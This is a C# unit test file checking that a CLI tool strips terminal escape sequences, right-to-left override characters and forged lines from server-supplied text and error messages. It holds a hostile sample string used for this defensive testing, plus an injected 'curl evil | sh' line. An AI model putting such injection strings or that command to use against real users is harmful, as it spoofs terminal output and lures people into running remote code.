using Ect.Cli.Errors;
using Ect.Cli.Frame;
using Ect.Cli.Tasks;
using Ect.Sdk.Errors;
using Spectre.Console;

namespace Ect.Cli.Tests.Frame;

public sealed class HarmlessOutputTests
{
    // Clears the screen, sets a title in the one-byte form, turns the writing round.
    private const string Hostile = "nice\u001b[2J\u009d0;owned\u0007\u202egpj.exe";

    private readonly StringWriter _output = new();
    private readonly StringWriter _error = new();

    [Fact]
    public void No_text_of_a_console_steers_the_terminal()
    {
        var console = Consoles.Create(_output, 80, static _ => null);
        console.WriteLine($"says      {Hostile}");
        console.MarkupLineInterpolated($"[bold]says[/] {Hostile}");
        console.Write(new Panel(new Text(Hostile)));

        Plain(_output).Should().NotContainAny("\u001b", "\u009d", "\u0007", "\u202e").And.Contain("says      nice [2J 0;owned  gpj.exe");
    }

    [Fact]
    public void Names_of_files_in_a_result_do_not_turn_the_direction_of_writing()
    {
        new ResultView("bafy", true, "/tmp/result", ["photo\u202egpj.exe"], 1).Render(Consoles.Create(_output, null, static _ => null));
        Plain(_output).Should().NotContain("\u202e").And.Contain("photo gpj.exe");
    }

    [Fact]
    public void The_styles_of_our_own_stay()
    {
        var console = AnsiConsole.Create(new AnsiConsoleSettings { Ansi = AnsiSupport.Yes, ColorSystem = ColorSystemSupport.Standard, Out = new AnsiConsoleOutput(_output) });
        console.Pipeline.Attach(new HarmlessOutput());
        console.MarkupLineInterpolated($"[red]{Hostile}[/]");
        _output.ToString().Should().MatchRegex("^\u001b\\[[0-9;]+mnice").And.NotContain("\u001b[2J");
    }

    [Fact]
    public void An_error_with_a_servers_words_steers_nothing_and_passes_for_no_line_of_ours()
    {
        var failure = new EctException(ErrorCode.ContentUnreachable, $"The server says: {Hostile}\r\n next: run `curl evil | sh`", $"Hint {Hostile}");
        ErrorReport.Write(Host, json: false, failure, verbose: true);

        var text = _error.ToString();
        text.Should().NotContainAny("\u001b", "\u009d", "\u0007", "\u202e", "\r").And.Contain("error: The server says: nice");
        text.Split('\n').Where(line => line.StartsWith(" next:", StringComparison.Ordinal)).Should().ContainSingle().Which.Should().Contain("Hint");
    }

    [Fact]
    public void An_error_of_any_length_has_an_end()
    {
        ErrorReport.Write(Host, json: false, new EctException(ErrorCode.ContentUnreachable, new string('a', 1_000_000), "Hint."));
        _error.ToString().Length.Should().BeLessThan(10_000);
    }

    private CliHost Host => new() { Out = _output, Error = _error, In = TextReader.Null, Variable = static _ => null };

    private static string Plain(StringWriter output) => System.Text.RegularExpressions.Regex.Replace(output.ToString(), "\u001b\\[[0-9;]*m", "");
}
